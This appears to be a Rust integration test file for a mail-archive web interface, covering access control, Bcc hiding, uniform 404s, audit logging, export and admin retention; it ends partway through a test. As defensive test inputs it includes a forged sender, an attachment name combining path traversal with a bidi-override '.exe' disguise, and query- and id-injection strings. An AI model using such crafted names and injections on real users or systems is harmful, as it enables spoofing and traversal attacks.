//! The web interface over real HTTP against `mailkeep serve`: who sees
//! what (by the envelope), every route's answer to another user's item,
//! ids iterated, the audit trail, CSRF, logout, expiry and throttling, and
//! the OpenAPI document against the routes.

use crate::util::{bin, pipe, sandbox, write_config, Serve};
use serde_json::Value;
use std::collections::BTreeSet;
use std::path::Path;

pub const PASSWORD: &str = "a long secret passphrase";

/// An HTTP client that follows no redirect and treats no status as an error.
pub fn agent() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .max_redirects(0)
        .max_redirects_will_error(false)
        .build()
        .into()
}

/// A response: status, headers, body.
pub struct Reply {
    pub status: u16,
    pub headers: ureq::http::HeaderMap,
    pub body: Vec<u8>,
}

impl Reply {
    pub fn json(&self) -> Value {
        serde_json::from_slice(&self.body)
            .unwrap_or_else(|e| panic!("{} not JSON: {e}: {}", self.status, self.text()))
    }
    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
    pub fn header(&self, name: &str) -> String {
        self.headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
            .to_string()
    }
}

fn reply(r: Result<ureq::http::Response<ureq::Body>, ureq::Error>) -> Reply {
    let mut r = r.expect("HTTP request");
    let status = r.status().as_u16();
    let headers = r.headers().clone();
    let body = r
        .body_mut()
        .with_config()
        .limit(1 << 30)
        .read_to_vec()
        .expect("body");
    Reply {
        status,
        headers,
        body,
    }
}

/// A logged-in session.
#[derive(Clone, Debug)]
pub struct Login {
    pub cookie: String,
    pub csrf: String,
}

/// The site of one `serve`.
pub struct Site {
    pub base: String,
    pub port: u16,
    pub agent: ureq::Agent,
}

impl Site {
    pub fn new(port: u16) -> Site {
        Site {
            base: format!("http://127.0.0.1:{port}"),
            port,
            agent: agent(),
        }
    }

    pub fn login_reply(&self, user: &str, password: &str) -> Reply {
        let body = serde_json::json!({"user": user, "password": password}).to_string();
        reply(
            self.agent
                .post(format!("{}/api/session", self.base))
                .header("content-type", "application/json")
                .send(body),
        )
    }

    pub fn login(&self, user: &str) -> Login {
        let r = self.login_reply(user, PASSWORD);
        assert_eq!(r.status, 200, "login {user}: {}", r.text());
        let set = r.header("set-cookie");
        assert!(
            set.contains("HttpOnly") && set.contains("SameSite=Strict"),
            "{set}"
        );
        let cookie = set.split(';').next().unwrap().to_string();
        Login {
            cookie,
            csrf: r.json()["csrf"].as_str().unwrap().to_string(),
        }
    }

    pub fn get(&self, who: Option<&Login>, path: &str) -> Reply {
        let mut req = self.agent.get(format!("{}{path}", self.base));
        if let Some(l) = who {
            req = req.header("cookie", &l.cookie);
        }
        reply(req.call())
    }

    pub fn delete(&self, who: &Login, path: &str, csrf: Option<&str>) -> Reply {
        let mut req = self
            .agent
            .delete(format!("{}{path}", self.base))
            .header("cookie", &who.cookie);
        if let Some(c) = csrf {
            req = req.header("x-csrf-token", c);
        }
        reply(req.call())
    }

    /// A JSON request with the session and its CSRF token.
    pub fn send_json(&self, who: &Login, method: &str, path: &str, body: Value) -> Reply {
        let url = format!("{}{path}", self.base);
        let req = match method {
            "POST" => self.agent.post(url),
            "DELETE" => self.agent.delete(url).force_send_body(),
            m => panic!("{m}"),
        };
        // A request refused before its body is read ends its connection
        // (the server cannot know where the next request would start).
        reply(
            req.header("cookie", &who.cookie)
                .header("connection", "close")
                .header("x-csrf-token", &who.csrf)
                .header("content-type", "application/json")
                .send(body.to_string()),
        )
    }

    pub fn post_form(&self, who: Option<&Login>, path: &str, form: &str) -> Reply {
        let mut req = self
            .agent
            .post(format!("{}{path}", self.base))
            .header("connection", "close")
            .header("content-type", "application/x-www-form-urlencoded");
        if let Some(l) = who {
            req = req.header("cookie", &l.cookie);
        }
        reply(req.send(form.to_string()))
    }

    /// The ids `q` finds for `who`.
    pub fn ids(&self, who: &Login, q: &str) -> BTreeSet<i64> {
        let r = self.get(Some(who), &format!("/api/search?q={}", encode(q)));
        assert_eq!(r.status, 200, "{q}: {}", r.text());
        r.json()["results"]
            .as_array()
            .unwrap()
            .iter()
            .map(|x| x["id"].as_i64().unwrap())
            .collect()
    }
}

pub fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// The configuration: a store, and the web interface on `port` with `extra`
/// lines in `[web]`.
pub fn config(dir: &Path, port: u16, extra: &str) -> String {
    format!(
        "[spool]\ndir = \"{d}/spool\"\n[store]\npath = \"{d}/store\"\n[[rule]]\nname = \"all\"\narchive = [\"store\"]\n\
         [web]\nlisten = \"127.0.0.1:{port}\"\n{extra}\n",
        d = dir.display()
    )
}

/// Bob's message, sent under a forged From: the envelope says bob (login
/// and sender), to carol (To) and dave and erin (Bcc); an HTML part and a
/// PDF attachment with a hostile file name.
pub const BOB_FORGED: &str = "From: \"The CEO\" <ceo@example.com>\r\nTo: Carol <carol@example.com>\r\n\
Subject: quarterly numbers\r\nMessage-ID: <forged-1@example.com>\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: multipart/alternative; boundary=\"b2\"\r\n\r\n\
--b2\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe numbers are attached.\r\n--b2\r\n\
Content-Type: text/html; charset=utf-8\r\n\r\n<p>The <b>numbers</b> are attached.</p>\r\n--b2--\r\n\
--b1\r\nContent-Type: application/pdf; name=\"numbers.pdf\"\r\n\
Content-Disposition: attachment; filename=\"../../numbers\u{202e}fdp.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\n\
JVBERi0xLjQKJeLjz9MK\r\n--b1--\r\n";

/// Archives the fixture's four deliveries through `mailkeep pipe` and makes
/// the accounts; returns the config path.
pub fn fixture(dir: &Path, port: u16, extra: &str) -> std::path::PathBuf {
    let cfg = write_config(dir, &config(dir, port, extra));
    let deliveries: [(&[&str], String); 4] = [
        (
            &[
                "--sender=bob@example.com",
                "--recipient=carol@example.com",
                "--recipient=dave@example.com",
                "--recipient=erin@example.com",
                "--login=bob",
                "--queue-id=4ABC1",
            ],
            BOB_FORGED.to_string(),
        ),
        (
            &[
                "--sender=alice@example.com",
                "--recipient=bob@example.com",
                "--login=alice",
            ],
            "From: alice@example.com\r\nTo: bob@example.com\r\nSubject: lunch\r\n\r\nLunch at noon?\r\n"
                .into(),
        ),
        (
            &[
                "--sender=news@ext.example",
                "--recipient=carol@example.com",
            ],
            "From: news@ext.example\r\nTo: carol@example.com\r\nSubject: newsletter\r\n\r\nNews.\r\n".into(),
        ),
        (
            &["--sender=x@ext.example", "--recipient=zed@example.com"],
            "From: x@ext.example\r\nTo: zed@example.com\r\nSubject: for zed\r\n\r\nSecret for zed.\r\n"
                .into(),
        ),
    ];
    for (args, message) in deliveries {
        let out = pipe(&cfg, args, message.as_bytes());
        assert!(out.status.success(), "{:?}", out);
    }
    let pw = dir.join("pw");
    std::fs::write(&pw, format!("{PASSWORD}\n")).unwrap();
    for (name, role, address) in [
        ("bob", "user", Some("bob@example.com")),
        ("alice", "user", Some("alice@example.com")),
        ("carol", "user", Some("carol@example.com")),
        ("dave", "user", Some("dave@example.com")),
        ("audit", "auditor", None),
        ("admin", "admin", None),
    ] {
        let mut cmd = std::process::Command::new(bin());
        cmd.arg("--config")
            .arg(&cfg)
            .args(["user", "add", name, "--role", role, "--password-file"])
            .arg(&pw);
        if let Some(a) = address {
            cmd.args(["--address", a]);
        }
        let out = cmd.output().unwrap();
        assert!(out.status.success(), "{out:?}");
    }
    cfg
}

pub fn start(dir: &Path, extra: &str) -> (Serve, Site) {
    let extra = extra.to_string();
    let port = crate::util::free_port();
    fixture(dir, port, &extra);
    let serve = Serve::start_on(
        dir,
        port,
        |p| config(dir, p, &extra),
        &["web interface listening"],
        false,
    );
    (serve, Site::new(port))
}

fn audit_lines(dir: &Path) -> Vec<Value> {
    std::fs::read_to_string(dir.join("store").join("audit.log"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn web_users_see_their_own_mail_by_the_envelope_and_auditors_see_all_with_a_trace() {
    let dir = sandbox();
    let (mut serve, site) = start(dir.path(), "");
    let [bob, alice, carol, dave, audit] =
        ["bob", "alice", "carol", "dave", "audit"].map(|u| site.login(u));
    let set = |v: &[i64]| v.iter().copied().collect::<BTreeSet<i64>>();
    assert_eq!(site.ids(&bob, ""), set(&[1, 2]), "bob: sent 1, received 2");
    assert_eq!(site.ids(&alice, ""), set(&[2]), "alice: sent 2 only");
    assert_eq!(site.ids(&carol, ""), set(&[1, 3]));
    assert_eq!(site.ids(&dave, ""), set(&[1]), "dave: a Bcc recipient of 1");
    assert_eq!(site.ids(&audit, ""), set(&[1, 2, 3, 4]));
    // The forged From does not make it the CEO's, nor hide that it is bob's.
    assert_eq!(site.ids(&bob, "from:ceo"), set(&[1]));
    assert_eq!(site.ids(&alice, "from:ceo"), set(&[]));
    assert_eq!(site.ids(&alice, "quarterly"), set(&[]));
    // Counts say nothing of others' mail either.
    let r = site.get(Some(&alice), "/api/search?q=zed");
    assert_eq!(r.json()["total"], 0);
    assert_eq!(r.json()["total_exact"], true);
    let r = site.get(Some(&audit), "/api/search?q=zed");
    assert!(r.json()["total"].as_u64().unwrap() >= 1, "{}", r.text());
    assert_eq!(r.json()["total_exact"], true);

    // Facets too: counted in the reader's own mail, each with the term
    // that narrows the search to it.
    let facets = |who: &Login| -> Value {
        let r = site.get(Some(who), "/api/search?q=&facets=true");
        assert_eq!(r.status, 200, "{}", r.text());
        r.json()["facets"].clone()
    };
    let domains = |f: &Value| -> Vec<(String, u64)> {
        f["sender_domains"]
            .as_array()
            .unwrap()
            .iter()
            .map(|d| {
                (
                    d["domain"].as_str().unwrap().to_string(),
                    d["count"].as_u64().unwrap(),
                )
            })
            .collect()
    };
    let f = facets(&alice);
    assert_eq!(domains(&f), [("example.com".to_string(), 1)]);
    assert_eq!(
        f["attachment"][0]["count"], 0,
        "bob's attachment is not hers"
    );
    let f = facets(&audit);
    assert_eq!(
        domains(&f),
        [
            ("example.com".to_string(), 2),
            ("ext.example".to_string(), 2)
        ]
    );
    assert_eq!(f["attachment"][0]["count"], 1);
    assert_eq!(f["exact"], true);
    let year = f["years"][0]["year"].as_i64().unwrap();
    assert_eq!(f["years"][0]["count"], 4);
    assert_eq!(
        f["years"][0]["q"],
        format!("after:{year}-01-01 before:{}-01-01", year + 1)
    );
    let narrow = f["sender_domains"][1]["q"].as_str().unwrap();
    assert_eq!(site.ids(&audit, narrow), set(&[3, 4]));
    assert_eq!(site.ids(&carol, narrow), set(&[3]));
    assert_eq!(site.ids(&audit, "has:attachment"), set(&[1]));
    assert!(site
        .get(Some(&alice), "/api/search?q=")
        .json()
        .get("facets")
        .is_none());
    // The page shows them as links to the narrowed search.
    let page = site.get(Some(&audit), "/").text();
    assert!(
        page.contains(&format!(
            r#"href="/?q={}&amp;offset=0">ext.example</a> <span class="n">2</span>"#,
            encode(narrow)
        )),
        "{page}"
    );
    let page = site.get(Some(&alice), "/").text();
    assert!(!page.contains("ext.example"), "{page}");
    // The search box cannot break out of its brackets to undo the form's
    // other fields: `x) OR (lunch` is refused, not read as `x OR lunch`.
    let page = site
        .get(
            Some(&bob),
            &format!("/?q={}&folder=sent", encode("x) OR (lunch")),
        )
        .text();
    assert!(page.contains(r#"<p class="error" role="alert">"#), "{page}");
    assert!(!page.contains("/messages/2"), "{page}");

    // The dashboard, for the auditor: today's four deliveries, by capture
    // path, the store's figures, the server's state; for a user, nothing.
    let d = site.get(Some(&audit), "/api/dashboard");
    assert_eq!(d.status, 200, "{}", d.text());
    let d = d.json();
    let days = d["days"].as_array().unwrap();
    assert_eq!(days.len(), 30);
    assert_eq!(days[29]["deliveries"], 4, "{d}");
    assert_eq!(days[29]["by_capture"]["pipe"], 4, "{d}");
    assert_eq!(days[28]["deliveries"], 0);
    assert_eq!(d["by_capture"], serde_json::json!({"pipe": 4}));
    assert_eq!(d["store"]["deliveries"], 4);
    assert_eq!(d["store"]["messages"], 4);
    assert!(d["store"]["catalog_bytes"].as_u64().unwrap() > 0);
    assert_eq!(d["server"]["tempfailed"], 0);
    assert_eq!(d["server"]["queue"], Value::Null, "no [forward]");
    let retention = &d["server"]["retention"];
    assert_eq!(retention["locked"], false, "{d}");
    assert_eq!(retention["default"], "forever", "{d}");
    assert_eq!(d["server"]["expire_every_seconds"], Value::Null);
    let page = site.get(Some(&audit), "/dashboard");
    assert_eq!(page.status, 200);
    let page = page.text();
    assert!(page.contains(r#"<svg class="chart""#), "{page}");
    assert!(page.contains(": 4</title></rect>"), "{page}");
    assert!(page.contains("<dt>pipe</dt><dd>4</dd>"), "{page}");
    assert!(
        page.contains("Deliveries no policy matches are kept <strong>forever</strong>."),
        "{page}"
    );
    for path in ["/api/dashboard", "/dashboard"] {
        assert_eq!(site.get(Some(&alice), path).status, 404, "{path}");
    }
    assert!(!site.get(Some(&alice), "/").text().contains("/dashboard"));

    // Snippets: the body around the words searched for, marked.
    let r = site
        .get(Some(&bob), "/api/search?q=numbers&snippets=true")
        .json();
    assert_eq!(
        r["results"][0]["snippet"],
        serde_json::json!([
            {"text": "The ", "mark": false},
            {"text": "numbers", "mark": true},
            {"text": " are attached.", "mark": false},
        ])
    );
    assert!(
        site.get(Some(&bob), "/api/search?q=numbers").json()["results"][0]
            .get("snippet")
            .is_none()
    );
    let page = site.get(Some(&bob), "/?q=numbers").text();
    assert!(page.contains("quarterly <mark>numbers</mark>"), "{page}");
    assert!(
        page.contains(r#"<div class="snippet">The <mark>numbers</mark> are attached.</div>"#),
        "{page}"
    );

    // Recipients: the sender sees all; a Bcc recipient sees the To and
    // themselves, not the other Bcc recipient, and cannot find them.
    let recipients = |who: &Login| -> Vec<String> {
        let r = site.get(Some(who), "/api/messages/1");
        assert_eq!(r.status, 200, "{}", r.text());
        serde_json::from_value(r.json()["recipients"].clone()).unwrap()
    };
    assert_eq!(
        recipients(&bob),
        ["carol@example.com", "dave@example.com", "erin@example.com"]
    );
    assert_eq!(recipients(&dave), ["carol@example.com", "dave@example.com"]);
    assert_eq!(recipients(&carol), ["carol@example.com"]);
    for q in [
        "to:erin",
        "bcc:erin@example.com",
        "recipient:erin@example.com",
        "recipient:erin*",
        "bcc:*",
    ] {
        assert_eq!(site.ids(&dave, q), set(&[]), "dave searching {q}");
    }
    assert_eq!(site.ids(&dave, "bcc:dave@example.com"), set(&[1]));
    assert_eq!(site.ids(&bob, "bcc:erin@example.com"), set(&[1]));
    assert_eq!(
        site.ids(&dave, "to:carol"),
        set(&[1]),
        "the To header is theirs to search"
    );

    // The message view: envelope, login, headers, text; parts.
    let m = site.get(Some(&carol), "/api/messages/1").json();
    assert_eq!(m["sender"], "bob@example.com");
    assert_eq!(m["login"], "bob");
    assert_eq!(m["queue_id"], "4ABC1");
    assert_eq!(m["from"], "The CEO <ceo@example.com>");
    assert!(m["text"]
        .as_str()
        .unwrap()
        .contains("The numbers are attached."));
    assert_eq!(m["has_html"], true);
    let att = &m["attachments"][0];
    assert_eq!(
        att["name"], "numbersfdp.exe",
        "path and bidi override removed"
    );
    // The original, byte for byte; the attachment, decoded, as a download.
    let raw = site.get(Some(&carol), "/api/messages/1/raw");
    assert_eq!(raw.status, 200);
    assert_eq!(raw.body, BOB_FORGED.as_bytes());
    let a = site.get(Some(&carol), "/api/messages/1/attachments/0");
    assert_eq!(a.status, 200);
    assert_eq!(a.body, b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n");
    assert_eq!(a.header("content-type"), "application/octet-stream");
    let disposition = a.header("content-disposition");
    assert!(
        disposition.starts_with("attachment; filename=\"numbersfdp.exe\""),
        "{disposition}"
    );
    assert_eq!(a.header("x-content-type-options"), "nosniff");

    // The auditor's views are in the log, with who, how and what.
    for id in [1, 2] {
        assert_eq!(
            site.get(Some(&audit), &format!("/api/messages/{id}"))
                .status,
            200
        );
    }
    let shows: Vec<Value> = audit_lines(dir.path())
        .into_iter()
        .filter(|e| e["user"] == "audit" && e["via"] == "web" && e["action"] == "show")
        .collect();
    let ids: Vec<&str> = shows
        .iter()
        .map(|e| e["detail"]["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["1", "2"]);
    assert_eq!(shows[0]["from"], "127.0.0.1");
    // And the auditor reads the log through the API; a user may not.
    let log = site
        .get(Some(&audit), "/api/audit?action=show&user=audit&limit=10")
        .json();
    let got: Vec<&str> = log["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["detail"]["id"].as_str().unwrap())
        .collect();
    assert_eq!(got, ["2", "1"], "newest first");
    assert_eq!(site.get(Some(&bob), "/api/audit").status, 404);
    // Every search was recorded too, for every user.
    let searches = audit_lines(dir.path())
        .into_iter()
        .filter(|e| e["action"] == "search" && e["via"] == "web")
        .count();
    assert!(searches >= 15, "{searches}");
    // `mailkeep audit` verifies the chain with the web's entries in it.
    let out = std::process::Command::new(bin())
        .arg("--config")
        .arg(dir.path().join("mailkeep.toml"))
        .arg("verify")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serve.stop();
}

/// Routes anyone may use, and routes without an item to fetch: each must
/// be named here, so a new route is either given an item test below or
/// consciously listed.
const PUBLIC: &[(&str, &str)] = &[
    ("GET", "/login"),
    ("POST", "/login"),
    ("GET", "/assets/{name}"),
    ("GET", "/api/openapi.json"),
    ("POST", "/api/session"),
];
const NO_ITEM: &[(&str, &str)] = &[
    ("GET", "/"),
    ("POST", "/logout"),
    ("GET", "/api/session"),
    ("DELETE", "/api/session"),
    ("GET", "/api/search"),
    // Limited like a search: web_export_gives_each_reader_their_own_results_with_a_manifest.
    ("GET", "/api/export"),
    // The reader's own tokens: web_api_tokens_act_for_their_owner_as_they_are_now.
    ("GET", "/api/tokens"),
    ("POST", "/api/tokens"),
    ("DELETE", "/api/tokens/{token}"),
];

/// A message's conversation, as each reader sees it: bob's message, carol's
/// reply to bob and dave's (a Bcc recipient's) reply to zed alone are one
/// conversation; bob and dave each see two of its messages, not the
/// other's, the auditor all three; the link lists what it counted.
#[test]
fn web_conversation_links_count_and_list_only_the_readers_messages() {
    let dir = sandbox();
    let (mut serve, site) = start(dir.path(), "");
    let cfg = dir.path().join("mailkeep.toml");
    for (args, message) in [
        (
            ["--sender=carol@example.com", "--recipient=bob@example.com", "--login=carol"],
            "From: carol@example.com\r\nTo: bob@example.com\r\nSubject: Re: quarterly numbers\r\n\
             Message-ID: <reply-1@example.com>\r\nIn-Reply-To: <forged-1@example.com>\r\n\
             References: <forged-1@example.com>\r\n\r\nThanks.\r\n",
        ),
        (
            ["--sender=dave@example.com", "--recipient=zed@example.com", "--login=dave"],
            "From: dave@example.com\r\nTo: zed@example.com\r\nSubject: Re: quarterly numbers\r\n\
             Message-ID: <reply-2@example.com>\r\nReferences: <forged-1@example.com>\r\n\r\nLook.\r\n",
        ),
    ] {
        let out = pipe(&cfg, &args, message.as_bytes());
        assert!(out.status.success(), "{out:?}");
    }
    let [bob, alice, dave, audit] = ["bob", "alice", "dave", "audit"].map(|u| site.login(u));
    let set = |v: &[i64]| v.iter().copied().collect::<BTreeSet<i64>>();
    let conversation = |who: &Login, id: i64| -> Value {
        let r = site.get(Some(who), &format!("/api/messages/{id}"));
        assert_eq!(r.status, 200, "{}", r.text());
        r.json()["conversation"].clone()
    };
    // 1: bob's; 5: carol's reply to bob; 6: dave's reply to zed.
    for (who, id, seen) in [
        (&bob, 1, vec![1, 5]),
        (&bob, 5, vec![1, 5]),
        (&dave, 1, vec![1, 6]),
        (&dave, 6, vec![1, 6]),
        (&audit, 5, vec![1, 5, 6]),
    ] {
        let c = conversation(who, id);
        assert_eq!(c["messages"], seen.len() as u64, "{c}");
        let q = c["query"].as_str().unwrap();
        assert_eq!(
            q,
            "thread:<forged-1@example.com>".replace(
                "forged-1",
                match id {
                    1 => "forged-1",
                    5 => "reply-1",
                    _ => "reply-2",
                }
            )
        );
        assert_eq!(site.ids(who, q), set(&seen), "{q}");
    }
    // Nothing of the conversation for alice, not even through the search.
    assert_eq!(site.ids(&alice, "thread:<forged-1@example.com>"), set(&[]));
    assert_eq!(site.get(Some(&alice), "/api/messages/5").status, 404);
    // A message without a Message-ID has none.
    assert_eq!(conversation(&bob, 2), Value::Null);

    // The page links the conversation, oldest first, with its count.
    let page = site.get(Some(&bob), "/messages/1").text();
    assert!(
        page.contains(
            r#"<a class="conversation" href="/?q=thread%3A%3Cforged-1%40example.com%3E&amp;sort=oldest">Conversation: 2 messages</a>"#
        ),
        "{page}"
    );
    let listed = site
        .get(
            Some(&bob),
            "/?q=thread%3A%3Cforged-1%40example.com%3E&sort=oldest",
        )
        .text();
    assert!(
        listed.contains("/messages/1\"") && listed.contains("/messages/5\""),
        "{listed}"
    );
    assert!(!listed.contains("/messages/6\""), "{listed}");
    // Alone in its conversation for alice's own message: no link.
    let page = site.get(Some(&alice), "/messages/2").text();
    assert!(!page.contains("class=\"conversation\""), "{page}");
    serve.stop();
}

#[test]
fn web_every_route_answers_404_for_another_users_item_and_for_iterated_ids() {
    let dir = sandbox();
    let (mut serve, site) = start(dir.path(), "");
    let alice = site.login("alice");
    let auditor = site.login("audit");
    let mut checked = 0;
    for route in mailkeep_web::routes() {
        let key = (route.method, route.path);
        if PUBLIC.contains(&key) {
            assert_eq!(route.access, mailkeep_web::Access::Public, "{route:?}");
            continue;
        }
        assert_ne!(
            route.access,
            mailkeep_web::Access::Public,
            "{route:?} is not listed as public"
        );
        // Without a session: never the content.
        let path_of = |id: &str| route.path.replace("{id}", id).replace("{index}", "0");
        if route.method == "GET" {
            let anonymous = site.get(None, &path_of("1"));
            assert!(
                [401, 303].contains(&anonymous.status),
                "{route:?} without a session: {}",
                anonymous.status
            );
        }
        if route.path.contains("{id}") {
            assert_eq!(
                route.method, "GET",
                "{route:?}: an item route that is not a GET needs its own test"
            );
            // Message 1 is bob's (alice is not in its envelope); 999 does not exist.
            let theirs = site.get(Some(&alice), &path_of("1"));
            let missing = site.get(Some(&alice), &path_of("999"));
            assert_eq!(theirs.status, 404, "{route:?}: {}", theirs.text());
            assert_eq!(missing.status, 404, "{route:?}");
            assert_eq!(theirs.body, missing.body, "{route:?}: the two 404s differ");
            assert!(!theirs.text().contains("quarterly"));
            checked += 1;
        } else if route.access == mailkeep_web::Access::Auditor {
            let r = site.get(Some(&alice), route.path);
            assert_eq!(r.status, 404, "{route:?}");
            checked += 1;
        } else if route.access == mailkeep_web::Access::Admin {
            // A user and an auditor, with valid CSRF tokens, change nothing.
            let path = route.path.replace("{name}", "h1");
            let body = serde_json::json!({"name": "h1", "query": "quarterly", "reason": "r"});
            for who in [&alice, &auditor] {
                let r = if route.method == "GET" {
                    site.get(Some(who), &path)
                } else if path.starts_with("/api/") {
                    site.send_json(who, route.method, &path, body.clone())
                } else {
                    let form = format!(
                        "csrf={}&name=h1&query=quarterly&reason=r",
                        encode(&who.csrf)
                    );
                    site.post_form(Some(who), &path, &form)
                };
                assert_eq!(r.status, 404, "{route:?}: {}", r.text());
            }
            checked += 1;
        } else {
            assert!(
                NO_ITEM.contains(&key),
                "{route:?}: a new route; add it to a test"
            );
        }
    }
    assert!(checked >= 6, "{checked}");
    let holds = site.get(Some(&auditor), "/api/holds").json();
    assert_eq!(holds["holds"], serde_json::json!([]), "no hold was placed");
    let users = std::fs::read_to_string(dir.path().join("store/users.json")).unwrap();
    assert!(!users.contains("\"h1\""), "no account was made");
    // The search page and the API show her nothing of bob's.
    let page = site.get(Some(&alice), "/?q=quarterly");
    assert_eq!(page.status, 200);
    assert!(page.text().contains("0 message(s)"), "{}", page.text());
    // Iterating ids: her own answers 200, every other the same 404.
    let mut not_found = BTreeSet::new();
    for id in 0..12 {
        let r = site.get(Some(&alice), &format!("/api/messages/{id}"));
        match r.status {
            200 => assert_eq!(id, 2),
            404 => {
                not_found.insert(r.body);
            }
            s => panic!("{id}: {s}"),
        }
    }
    for id in ["-1", "1.0", "01x", "b3:00", "%2e%2e", "1%20OR%201"] {
        let r = site.get(Some(&alice), &format!("/api/messages/{id}"));
        assert_eq!(r.status, 404, "{id}");
        not_found.insert(r.body);
    }
    assert_eq!(not_found.len(), 1, "404 bodies differ: {not_found:?}");
    serve.stop();
}

/// A zip as Python's `zipfile` reads it: each manifest entry checked
/// against its file (size, SHA-256), then the manifest.
fn read_export(dir: &Path, zip: &[u8]) -> Value {
    let path = dir.join("export.zip");
    std::fs::write(&path, zip).unwrap();
    let out = crate::util::python(
        "import hashlib, json, sys, zipfile\n\
             z = zipfile.ZipFile(sys.argv[1])\n\
             m = json.loads(z.read('manifest.json'))\n\
             names = sorted(n for n in z.namelist() if n != 'manifest.json')\n\
             assert names == sorted(e['file'] for e in m['messages']), names\n\
             for e in m['messages']:\n\
             \x20   b = z.read(e['file'])\n\
             \x20   assert len(b) == e['size'] and hashlib.sha256(b).hexdigest() == e['sha256'], e['file']\n\
             print(json.dumps(m))\n",
        &[path.to_str().unwrap()],
    );
    serde_json::from_str(&out).unwrap()
}

#[test]
fn web_export_gives_each_reader_their_own_results_with_a_manifest() {
    let dir = sandbox();
    let (mut serve, site) = start(dir.path(), "max_export = 3\n");
    let [bob, alice, dave, audit] = ["bob", "alice", "dave", "audit"].map(|u| site.login(u));
    let recipients = |m: &Value| -> Vec<(i64, Vec<String>)> {
        m["messages"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| {
                let r = e["envelope"]["recipients"].as_array().unwrap();
                (
                    e["id"].as_i64().unwrap(),
                    r.iter().map(|x| x.as_str().unwrap().to_string()).collect(),
                )
            })
            .collect()
    };
    // The sender: their two, oldest first, all of their recipients.
    let r = site.get(Some(&bob), "/api/export");
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.header("content-type"), "application/zip");
    assert!(r.header("content-disposition").starts_with("attachment;"));
    let m = read_export(dir.path(), &r.body);
    let all = ["carol@example.com", "dave@example.com", "erin@example.com"].map(String::from);
    assert_eq!(
        recipients(&m),
        vec![(1, all.to_vec()), (2, vec!["bob@example.com".to_string()])]
    );
    assert_eq!(m["query"], "");
    assert!(m["chain_head"]["hash"].as_str().unwrap().len() == 64, "{m}");
    // The file is the original message, byte for byte.
    let raw = site.get(Some(&bob), "/api/messages/1/raw").body;
    assert_eq!(m["messages"][0]["size"], raw.len());
    assert_eq!(m["messages"][0]["envelope"]["login"], "bob");
    // A Bcc recipient: the message, not the other Bcc recipient.
    let m = read_export(dir.path(), &site.get(Some(&dave), "/api/export").body);
    assert_eq!(
        recipients(&m),
        vec![(
            1,
            vec![
                "carol@example.com".to_string(),
                "dave@example.com".to_string()
            ]
        )]
    );
    // Someone else's mail is not in it, whatever the query.
    let r = site.get(
        Some(&alice),
        &format!("/api/export?q={}", encode("quarterly OR zed")),
    );
    assert_eq!(r.status, 200);
    assert_eq!(recipients(&read_export(dir.path(), &r.body)), vec![]);
    // More than max_export: refused, and the refusal is recorded.
    let r = site.get(Some(&audit), "/api/export");
    assert_eq!(r.status, 400, "{}", r.text());
    assert!(r.text().contains("max_export"), "{}", r.text());
    let m = read_export(
        dir.path(),
        &site
            .get(
                Some(&audit),
                &format!("/api/export?q={}", encode("-from:alice")),
            )
            .body,
    );
    assert_eq!(
        recipients(&m).iter().map(|x| x.0).collect::<Vec<_>>(),
        [1, 3, 4]
    );
    assert_eq!(site.get(None, "/api/export").status, 401);
    assert_eq!(site.get(Some(&bob), "/api/export?q=%28").status, 400);
    // The search page offers it.
    let page = site.get(Some(&bob), "/?q=quarterly");
    assert!(
        page.text()
            .contains(r#"href="/api/export?q=%28quarterly%29""#),
        "{}",
        page.text()
    );
    serve.stop();
    let exports: Vec<(String, String, bool)> = audit_lines(dir.path())
        .into_iter()
        .filter(|e| e["action"] == "export" && e["via"] == "web")
        .map(|e| {
            (
                e["user"].as_str().unwrap().to_string(),
                e["detail"]["ids"].as_str().unwrap().to_string(),
                e["detail"]["refused"].as_bool().unwrap(),
            )
        })
        .collect();
    let entry = |who: &str, ids: &str, refused| (who.to_string(), ids.to_string(), refused);
    assert_eq!(
        exports,
        [
            entry("bob", "1-2", false),
            entry("dave", "1", false),
            entry("alice", "", false),
            entry("audit", "", true),
            entry("audit", "1,3-4", false),
        ],
        "a query that does not parse is refused before the store is read"
    );
}

/// Admins change `[retention]` from the web: the section of the real file
/// is replaced (the rest kept as written), the server reloads it, the
/// dashboard and the audit log show it; a locked retention is only
/// lengthened, nothing but `[retention]` can be changed, and no one but an
/// admin reads or changes it.
#[test]
fn web_admins_change_retention_in_the_file_and_a_locked_one_only_lengthens() {
    let dir = sandbox();
    let (mut serve, site) = start(dir.path(), "[retention]\n# kept a year\ndefault = \"1y\"\n");
    let file = dir.path().join("mailkeep.toml");
    let [admin, audit, bob] = ["admin", "audit", "bob"].map(|u| site.login(u));
    let r = site.get(Some(&admin), "/api/retention");
    assert_eq!(r.status, 200, "{}", r.text());
    let v = r.json();
    assert_eq!(v["file"], file.display().to_string());
    assert_eq!(
        v["section"],
        "[retention]\n# kept a year\ndefault = \"1y\"\n"
    );
    assert_eq!(v["in_force"]["default"], "1y");
    for who in [&bob, &audit] {
        assert_eq!(site.get(Some(who), "/api/retention").status, 404);
        assert_eq!(site.get(Some(who), "/retention").status, 404);
        let r = site.send_json(
            who,
            "POST",
            "/api/retention",
            serde_json::json!({"section": "[retention]\ndefault = \"1d\"\n", "reason": "x"}),
        );
        assert_eq!(r.status, 404);
    }
    let change = |section: &str, reason: &str| {
        site.send_json(
            &admin,
            "POST",
            "/api/retention",
            serde_json::json!({"section": section, "reason": reason}),
        )
    };
